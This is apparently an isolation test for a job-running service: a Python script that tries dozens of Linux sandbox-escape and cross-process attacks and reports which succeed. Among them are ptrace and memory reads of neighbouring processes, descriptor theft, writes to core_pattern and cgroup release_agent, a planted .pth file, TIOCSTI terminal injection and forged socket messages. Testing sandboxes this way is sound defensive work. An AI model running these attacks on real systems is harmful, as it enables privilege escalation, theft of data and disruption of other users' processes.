"""The attacks of a job on the job beside it and on the service: run as a job's process, prints those that gain something.

    python attacks.py FACTS.json     (standard library only; FACTS is what the neighbour and the worker have told)

Each attack returns what it has gained, or nothing. An OSError is a wall.
"""

# ruff: noqa: ANN001, ANN002, ANN201, ANN202, E501, PTH101, PTH102, PTH104, PTH108, PTH115, PTH119, PTH120, PTH123, PTH207, PTH208, T201 - a program of its own, which speaks to the kernel

import contextlib
import ctypes
import fcntl
import glob
import inspect
import json
import os
import platform
import resource
import signal
import socket
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path

F = json.loads(Path(sys.argv[1]).read_text())
VICTIM, WORKER, GUARDIAN = int(F["victim"]), int(F["worker"]), int(F["guardian"])
SECRET = F["secret"].encode()
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {
        "bpf": 321,
        "perf_event_open": 298,
        "userfaultfd": 323,
        "add_key": 248,
        "request_key": 249,
        "keyctl": 250,
        "kcmp": 312,
        "ioprio_set": 251,
        "init_module": 175,
        "kexec_load": 246,
        "syslog": 103,
        "quotactl": 179,
        "name_to_handle_at": 303,
        "migrate_pages": 256,
        "move_pages": 279,
    },
    "aarch64": {
        "bpf": 280,
        "perf_event_open": 241,
        "userfaultfd": 282,
        "add_key": 217,
        "request_key": 218,
        "keyctl": 219,
        "kcmp": 272,
        "ioprio_set": 30,
        "init_module": 105,
        "kexec_load": 104,
        "syslog": 116,
        "quotactl": 60,
        "name_to_handle_at": 264,
        "migrate_pages": 238,
        "move_pages": 239,
    },
}[platform.machine()] | {
    "io_uring_setup": 425,
    "pidfd_open": 434,
    "pidfd_getfd": 438,
    "pidfd_send_signal": 424,
    "open_tree": 428,
    "move_mount": 429,
    "fsopen": 430,
    "process_madvise": 440,
}


def call(name, *arguments):
    """A system call by its name; what it returns, or an OSError."""
    value = libc.syscall(NUMBERS[name], *arguments)
    if value < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return value


def checked(value):
    if value < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return value


def each(attempts):
    """Those of several attempts that meet no wall."""
    gained = []
    for name, attempt in attempts.items():
        with contextlib.suppress(OSError, ValueError):
            found = attempt()
            if found not in (None, False, b"", "", []):
                gained.append(f"{name}: {found!r:.60}")
    return gained


def reads(path):
    with open(path, "rb") as file:
        return file.read(64)


def writes(path, text="x"):
    number = os.open(path, os.O_WRONLY)
    try:
        os.write(number, text.encode())
    finally:
        os.close(number)
    return "written"


# --- the file system ---------------------------------------------------------------------------------------------------
def bind_mount():
    return each(
        {
            "bind": lambda: checked(libc.mount(F["folder"].encode(), F["own"].encode(), None, 4096, None)) or "mounted",
            "tmpfs": lambda: checked(libc.mount(b"none", F["own"].encode(), b"tmpfs", 0, None)) or "mounted",
            "open_tree": lambda: call("open_tree", -100, F["folder"].encode(), 1),
            "fsopen": lambda: call("fsopen", b"tmpfs", 0),
            "umount": lambda: checked(libc.umount2(b"/proc", 2)) or "unmounted",
            "chroot": lambda: checked(libc.chroot(F["own"].encode())) or "changed",
            "pivot_root": lambda: (
                checked(libc.syscall(155 if platform.machine() == "x86_64" else 41, b".", b".")) or "pivoted"
            ),
        }
    )


def roots_of_processes():
    paths = [f"/proc/{each}/{way}" for each in (VICTIM, WORKER, GUARDIAN, 1) for way in ("root", "cwd")]
    return each(
        {
            f"{path}{file}": lambda path=path, file=file: reads(f"{path}{file}")
            for path in paths
            for file in (F["file"], F["object"], F["secret_file"])
        }
    )


def own_root():
    return each(
        {
            f"{way}{file}": lambda way=way, file=file: reads(f"{way}{file}")
            for way in ("/proc/self/root", "/proc/thread-self/root", f"/proc/{os.getpid()}/root/proc/self/root")
            for file in (F["file"], F["object"], F["secret_file"])
        }
    )


def inherited_descriptors():
    """Nothing but its own input, output, frames, and what is nobody's."""
    gained = []
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{number}")
            if (
                any(part in target for part in (F["root"], "lock", "ledger", "secret"))
                and F["own"] not in target
                and sys.argv[1] not in target
                and __file__ not in target
            ):
                gained.append(target)
            if target.startswith("socket:"):
                gained.append(target)
    return gained


def descriptors_of_others():
    return each(
        {
            f"/proc/{process}/{name}": lambda process=process, name=name: os.listdir(f"/proc/{process}/{name}")
            for process in (VICTIM, WORKER, GUARDIAN)
            for name in ("fd", "fdinfo", "map_files", "task/0")
        }
    )


def hard_links():
    return each(
        {
            path: lambda path=path: os.link(path, f"{F['own']}/link-{os.path.basename(path)}") or "linked"
            for path in (F["file"], F["object"], F["secret_file"])
        }
    )


def write_by_the_second_name():
    """The link to a kept object that a job is given: it is read, and nothing else."""
    path = F["given"]
    return each(
        {
            "write": lambda: writes(path),
            "chmod": lambda: os.chmod(path, 0o666) or "changed",
            "truncate": lambda: os.truncate(path, 0) or "cut",
            "utime": lambda: os.utime(path, (1, 1)) or "dated",
            "chown": lambda: os.chown(path, os.getuid(), -1) or "owned",
            "xattr": lambda: os.setxattr(path, "user.note", b"x") or "noted",
            "unlink": lambda: os.unlink(path) or "removed",
            "rename": lambda: os.rename(path, f"{path}.2") or "renamed",
            "replace": lambda: os.rename(__file__, path) or "replaced",
            "lease": lambda: fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK) or "leased",
            "by descriptor": lambda: os.open(f"/proc/self/fd/{os.open(path, os.O_RDONLY)}", os.O_RDWR),
        }
    )


def handles_of_files():
    """Open by handle goes around folders, and needs a capability."""
    buffer = struct.pack("Ii", 128, 0) + bytes(128)
    handle, mount = ctypes.create_string_buffer(buffer), ctypes.c_int()
    call("name_to_handle_at", -100, F["given"].encode(), handle, ctypes.byref(mount), 0)
    root = os.open("/", os.O_RDONLY)
    return [f"opened {checked(libc.open_by_handle_at(root, handle, os.O_RDWR))}"]


def watch_folders():
    watch = checked(libc.inotify_init())
    return each(
        {
            path: lambda path=path: checked(libc.inotify_add_watch(watch, path.encode(), 0xFFF)) or "watched"
            for path in (F["root"], F["folder"], os.path.dirname(F["object"]), f"{F['root']}/objects")
        }
    ) + each({"fanotify": lambda: checked(libc.fanotify_init(0, 0))})


def folders_of_others():
    return each(
        {
            path: lambda path=path: os.listdir(path)
            for path in (
                F["root"],
                F["folder"],
                os.path.dirname(F["folder"]),
                f"{F['root']}/objects",
                f"{F['root']}/.factor-cache",
                f"{F['root']}/.objects",
            )
        }
    ) + each(
        {
            f"plant in {path}": lambda path=path: os.mkdir(f"{path}/planted") or "made"
            for path in (
                F["root"],
                F["folder"],
                os.path.dirname(F["folder"]),
                f"{F['root']}/objects",
                F["models"],
                os.path.dirname(F["given"]),
            )
        }
    )


def move_folders():
    return each(
        {
            path: lambda path=path: os.rename(path, f"{path}-moved") or "moved"
            for path in (
                F["root"],
                F["folder"],
                os.path.dirname(F["folder"]),
                F["models"],
                os.path.dirname(os.path.dirname(F["own"])),
                F["own"],
            )
        }
    )


def the_installation():
    return each(
        {
            path: lambda path=path: os.mkdir(path) or "made"
            for path in (
                f"{F['project']}/planted",
                f"{F['packages']}/planted",
                "/etc/planted",
                "/usr/planted",
                "/var/lib/planted",
                "/run/planted",
                "/planted",
            )
        }
    ) + each({"pth": lambda: Path(F["packages"], "planted.pth").write_text("import os") and "written"})


# --- rights ------------------------------------------------------------------------------------------------------------
def become_others():
    victim = int(F["victim_user"])
    return each(
        {
            "setuid": lambda: os.setresuid(victim, victim, victim) or "became",
            "worker": lambda: os.setresuid(10001, 10001, 10001) or "became",
            "root": lambda: os.setresuid(0, 0, 0) or "became",
            "setgid": lambda: os.setresgid(victim, victim, victim) or "became",
            "groups": lambda: os.setgroups([victim, 10001, 0]) or "joined",
            "fsuid": lambda: libc.setfsuid(victim) >= 0 and libc.setfsuid(-1) == victim and "became",
            "fsgid": lambda: libc.setfsgid(victim) >= 0 and libc.setfsgid(-1) == victim and "became",
            "chown": lambda: os.chown(F["own"], victim, -1) or "gave",
        }
    )


def capabilities():
    status = Path("/proc/self/status").read_text()
    gained = [
        line
        for line in status.splitlines()
        if line.startswith("Cap") and "Bnd" not in line and int(line.split()[1], 16)
    ]
    header = struct.pack("Ii", 0x20080522, 0)
    data = struct.pack("IIIIII", 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0, 0, 0)
    return gained + each(
        {
            "capset": lambda: checked(libc.capset(header, data)) or "raised",
            "ambient": lambda: checked(libc.prctl(47, 2, 7, 0, 0)) or "raised",
            "securebits": lambda: checked(libc.prctl(28, 0x10, 0, 0, 0)) or "set",
            "no_new_privs": lambda: checked(libc.prctl(38, 0, 0, 0, 0)) or "cleared",
            "seccomp": lambda: checked(libc.prctl(22, 0, 0, 0, 0)) or "cleared",
        }
    )


def setuid_programs():
    found = []
    for place in ("/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/lib/openssh", "/usr/lib/dbus-1.0"):
        with contextlib.suppress(OSError):
            found += [path for path in Path(place).iterdir() if not path.is_symlink() and path.stat().st_mode & 0o6000]
    copy = Path(F["own"], "id")
    copy.write_bytes(Path("/usr/bin/id").read_bytes())
    copy.chmod(0o6755)
    gained = []
    for command in [[str(copy), "-u"], ["/usr/bin/su", "-c", "id -u"], ["/usr/bin/sudo", "-n", "id", "-u"]]:
        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
            done = subprocess.run(
                command, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL, check=False
            )
            if done.stdout.strip() not in ("", str(os.getuid())):
                gained.append(f"{command}: {done.stdout.strip()}")
    return gained


def namespaces():
    flags = {
        "user": 0x10000000,
        "mount": 0x20000,
        "pid": 0x20000000,
        "net": 0x40000000,
        "ipc": 0x8000000,
        "uts": 0x4000000,
        "cgroup": 0x2000000,
        "time": 0x80,
    }
    attempts = {name: lambda flag=flag: checked(libc.unshare(flag)) or "made" for name, flag in flags.items()}
    for process in (VICTIM, WORKER, 1):
        for name in ("mnt", "user", "net", "pid", "ipc"):

            def enter(path=f"/proc/{process}/ns/{name}"):
                return checked(libc.setns(os.open(path, os.O_RDONLY), 0)) or "entered"

            attempts[f"{process} {name}"] = enter
    return each(attempts)


def limits():
    """Raise what it is held to."""
    found = {}
    for name in ("CORE", "NOFILE", "FSIZE", "NPROC"):
        number = getattr(resource, f"RLIMIT_{name}")
        hard = resource.getrlimit(number)[1]

        def raise_it(number=number, hard=hard):
            wanted = resource.RLIM_INFINITY
            resource.setrlimit(number, (wanted, wanted))
            return None if hard == wanted else "raised"

        found[name] = raise_it
    return each(found)


# --- processes ---------------------------------------------------------------------------------------------------------
def trace_processes():
    there = ctypes.create_string_buffer(64)

    class Part(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))

    def vm(function, process):
        here, far = Part(ctypes.addressof(there), 64), Part(int(F["address"]), 64)
        return checked(function(process, ctypes.byref(here), 1, ctypes.byref(far), 1, 0))

    attempts = {}
    for process in (VICTIM, WORKER, GUARDIAN):
        attempts |= {
            f"attach {process}": lambda process=process: checked(libc.ptrace(16, process, None, None)) or "attached",
            f"seize {process}": lambda process=process: checked(libc.ptrace(0x4206, process, None, None)) or "seized",
            f"read {process}": lambda process=process: vm(libc.process_vm_readv, process),
            f"write {process}": lambda process=process: vm(libc.process_vm_writev, process),
            f"kcmp {process}": lambda process=process: call("kcmp", os.getpid(), process, 2, 0, 0) >= 0 and "compared",
            f"pages {process}": lambda process=process: call("move_pages", process, 0, 0, 0, 0, 0) == 0 and "moved",
            f"migrate {process}": lambda process=process: call("migrate_pages", process, 0, 0, 0) == 0 and "moved",
        }
        for name in ("mem", "environ", "maps", "smaps", "auxv", "pagemap", "stack", "syscall", "io", "personality"):
            attempts[f"{name} {process}"] = lambda process=process, name=name: reads(f"/proc/{process}/{name}")
    return each(attempts)


def descriptors_of_processes():
    def steal(process):
        number = call("pidfd_open", process, 0)
        return [call("pidfd_getfd", number, each, 0) for each in range(8)]

    def advise(process):
        number = call("pidfd_open", process, 0)
        part = struct.pack("QQ", int(F["address"]) & ~4095, 4096)
        return call("process_madvise", number, part, 1, 21, 0) and "paged out"

    return each(
        {
            f"{way.__name__} {process}": lambda way=way, process=process: way(process)
            for way in (steal, advise)
            for process in (VICTIM, WORKER, GUARDIAN)
        }
    )


def signals():
    attempts = {}
    for process in (VICTIM, WORKER, GUARDIAN):
        attempts |= {
            f"kill {process}": lambda process=process: os.kill(process, 0) or "reached",
            f"stop {process}": lambda process=process: os.kill(process, signal.SIGSTOP) or "stopped",
            f"group {process}": lambda process=process: os.killpg(process, signal.SIGSTOP) or "stopped",
            f"pidfd {process}": lambda process=process: (
                call("pidfd_send_signal", call("pidfd_open", process, 0), signal.SIGSTOP, None, 0) or "stopped"
            ),
            f"queue {process}": lambda process=process: checked(libc.sigqueue(process, signal.SIGSTOP, None)) or "sent",
        }
    return each(attempts)


def signals_by_descriptors():
    """The kernel sends SIGIO to whoever a descriptor names as its owner, with the rights of who named it."""
    one, other = socket.socketpair()
    with contextlib.suppress(OSError):
        fcntl.fcntl(one, fcntl.F_SETOWN, VICTIM)
        fcntl.fcntl(one, 10, signal.SIGKILL)
        fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
        other.send(b"x")
        time.sleep(0.2)
    return [] if Path(f"/proc/{VICTIM}/stat").exists() else ["ended the neighbour"]


def schedules():
    attempts = {}
    for process in (VICTIM, WORKER, GUARDIAN):
        attempts |= {
            f"nice {process}": lambda process=process: os.setpriority(os.PRIO_PROCESS, process, 19) or "slowed",
            f"idle {process}": lambda process=process: (
                os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)) or "slowed"
            ),
            f"affinity {process}": lambda process=process: os.sched_setaffinity(process, {0}) or "pinned",
            f"prlimit {process}": lambda process=process: resource.prlimit(process, resource.RLIMIT_CPU, (1, 1)),
            f"ioprio {process}": lambda process=process: call("ioprio_set", 1, process, 3 << 13) == 0 and "slowed",
        }
    attempts |= {
        "own nice": lambda: os.setpriority(os.PRIO_PROCESS, 0, -5) or "raised",
        "realtime": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) or "raised",
        "user's nice": lambda: os.setpriority(os.PRIO_USER, int(F["victim_user"]), 19) or "slowed",
        "lock memory": lambda: checked(libc.mlockall(3)) or "locked",
    }
    resource.setrlimit(resource.RLIMIT_MEMLOCK, (0, 0))
    return each(attempts)


def who_is_killed_first():
    attempts = {}
    for process in (VICTIM, WORKER, GUARDIAN):
        for name, value in (
            ("oom_score_adj", "1000"),
            ("coredump_filter", "ff"),
            ("clear_refs", "1"),
            ("comm", "x"),
            ("timerslack_ns", "1"),
            ("loginuid", "0"),
            ("uid_map", "0 0 1"),
            ("autogroup", "19"),
        ):
            attempts[f"{process} {name}"] = lambda process=process, name=name, value=value: writes(
                f"/proc/{process}/{name}", value
            )
    attempts["own oom_score_adj"] = lambda: writes("/proc/self/oom_score_adj", "-1000")
    return each(attempts)


# --- memory and messages between processes -----------------------------------------------------------------------------
def shared_memory():
    def attach():
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(int(F["shm"]), None, 0)
        if place in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "shmat")
        return ctypes.string_at(place, 16)

    return each(
        {
            "attach": attach,
            "remove": lambda: checked(libc.shmctl(int(F["shm"]), 0, None)) or "removed",
            "semaphores": lambda: checked(libc.semctl(int(F["sem"]), 0, 0, 0)) or "removed",
            "queue": lambda: checked(libc.msgctl(int(F["queue"]), 0, None)) or "removed",
            "posix": lambda: reads(F["posix"]),
            "posix removed": lambda: os.unlink(F["posix"]) or "removed",
            "posix renamed": lambda: os.rename(F["posix"], f"{F['posix']}2") or "renamed",
        }
    )


def abstract_sockets():
    """A name without a file is everybody's to see: whoever listens looks who comes."""
    gained = []
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        fields = line.split()
        if len(fields) > 7 and fields[7].startswith("@kronoscope-ranks"):
            link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            link.settimeout(2)
            with contextlib.suppress(OSError):
                link.connect("\0" + fields[7][1:])
                link.sendall(struct.pack("=ii", 0, os.getpid()))
                link.sendall(b'{"frame": "log", "level": "info", "message": "forged"}\n')
                link.sendall(b'{"frame": "finished"}\n')
                if link.recv(1):
                    gained.append("answered")
    return gained


def keyrings():
    return each(
        {
            "user": lambda: call("keyctl", 0, -4, 1),
            "add": lambda: call("add_key", b"user", b"x", b"y", 1, -4),
            "request": lambda: call("request_key", b"user", b"kronoscope-test", None, 0),
            "listed": lambda: [line for line in Path("/proc/keys").read_text().splitlines() if SECRET.decode() in line],
        }
    )


def sockets_below():
    """Packets of others, and the kernel's own sockets."""
    return each(
        {
            "packet": lambda: bool(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)),
            "raw": lambda: bool(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
            "privileged port": lambda: (
                socket.create_server(("127.0.0.1", 80))
                and Path("/proc/sys/net/ipv4/ip_unprivileged_port_start").read_text().strip() != "0"
                and "bound"
            ),
            "interface": lambda: socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1) or "marked",
        }
    )


def connections_of_others():
    """What the worker itself listens at on this machine."""
    gained = []
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and fields[7] in ("10001", F["victim_user"]):
            gained.append(f"{fields[1]} of {fields[7]}")
    return gained


# --- the kernel --------------------------------------------------------------------------------------------------------
def io_rings():
    return each({"io_uring": lambda: call("io_uring_setup", 4, bytes(120))})


def kernel_interfaces():
    return each(
        {
            "bpf": lambda: call("bpf", 0, bytes(72), 72),
            "perf": lambda: call("perf_event_open", struct.pack("IIQ", 1, 112, 0) + bytes(96), VICTIM, -1, -1, 0),
            "userfaultfd": lambda: call("userfaultfd", 0),
            "module": lambda: call("init_module", b"", 0, b"") or "loaded",
            "kexec": lambda: call("kexec_load", 0, 0, None, 0) or "loaded",
            "syslog": lambda: call("syslog", 3, ctypes.create_string_buffer(64), 64),
            "quota": lambda: call("quotactl", 0x800007, None, 0, None) or "asked",
            "host name": lambda: checked(libc.sethostname(b"x", 1)) or "set",
            "clock": lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()) or "set",
            "swap": lambda: checked(libc.swapoff(b"/swap")) or "off",
            "accounting": lambda: checked(libc.acct(None)) or "off",
        }
    )


def kernel_files():
    paths = (
        "/proc/kcore",
        "/dev/mem",
        "/dev/kmem",
        "/dev/kmsg",
        "/dev/port",
        "/proc/sysrq-trigger",
        "/dev/fuse",
        "/sys/kernel/debug/tracing/trace",
        "/sys/kernel/tracing/trace",
        "/dev/loop0",
        "/dev/sda",
        "/dev/vda",
        "/dev/nvram",
        "/dev/uinput",
        "/dev/kvm",
        "/proc/1/environ",
        "/proc/1/mem",
    )
    changed = (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sys/vm/overcommit_memory",
        "/proc/sys/vm/drop_caches",
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/proc/sys/kernel/modprobe",
        "/sys/kernel/uevent_helper",
        "/proc/sys/fs/protected_hardlinks",
    )
    return each({path: lambda path=path: reads(path) for path in paths}) + each(
        {path: lambda path=path: writes(path, "1") for path in changed}
    )


def control_groups():
    own = [line.split(":", 2)[2] for line in Path("/proc/self/cgroup").read_text().splitlines()]
    names = (
        "cgroup.procs",
        "cgroup.kill",
        "cgroup.freeze",
        "memory.max",
        "memory.high",
        "pids.max",
        "cpu.max",
        "release_agent",
        "notify_on_release",
        "tasks",
        "memory.limit_in_bytes",
        "cgroup.subtree_control",
    )
    folders = {f"/sys/fs/cgroup{part}" for part in own} | {"/sys/fs/cgroup"} | set(glob.glob("/sys/fs/cgroup/*/"))
    return each(
        {
            f"{folder}/{name}": lambda folder=folder, name=name: writes(f"{folder}/{name}", "0")
            for folder in sorted(folders)
            for name in names
        }
    ) + each(
        {f"in {folder}": lambda folder=folder: os.mkdir(f"{folder}/planted") or "made" for folder in sorted(folders)}
    )


def core_dumps():
    """A process that dies leaves its memory to nobody."""
    before = set(glob.glob(f"{F['own']}/*")) | set(glob.glob("/tmp/core*"))
    child = os.fork()
    if child == 0:
        os.chdir(F["own"])
        resource.setrlimit(resource.RLIMIT_CORE, resource.getrlimit(resource.RLIMIT_CORE)[1:] * 2)
        os.kill(os.getpid(), signal.SIGQUIT)
        os._exit(0)
    os.waitpid(child, 0)
    after = set(glob.glob(f"{F['own']}/*")) | set(glob.glob("/tmp/core*"))
    return [path for path in after - before if "core" in path]


def terminals():
    """Type into the terminal of whoever has started the worker."""

    def push(path):
        number = os.open(path, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(number, termios.TIOCSTI, b"x")
        return "typed"

    return each(
        {
            path: lambda path=path: push(path)
            for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *glob.glob("/dev/pts/[0-9]*"))
        }
    )


def outlive():
    """Leave the process group, the session and the parent behind."""
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
            for number in range(3, 64):
                with contextlib.suppress(OSError):
                    os.close(number)
            Path(F["own"], "outlived").write_text(str(os.getpid()))
            time.sleep(600)
        os._exit(0)
    os.waitpid(child, 0)
    return []


def main():
    attacks = [
        each
        for name, each in list(globals().items())
        if inspect.isfunction(each)
        and each.__module__ == "__main__"
        and not inspect.signature(each).parameters
        and name != "main"
    ]
    # a neighbour that was stopped or ended answers no other
    last = (trace_processes, descriptors_of_processes, signals, signals_by_descriptors, schedules)
    told = {}
    for attack in sorted(attacks, key=lambda each: each in last):
        try:
            gained = attack()
        except OSError:
            gained = []
        told[attack.__name__] = gained
    print(json.dumps(told), flush=True)


main()
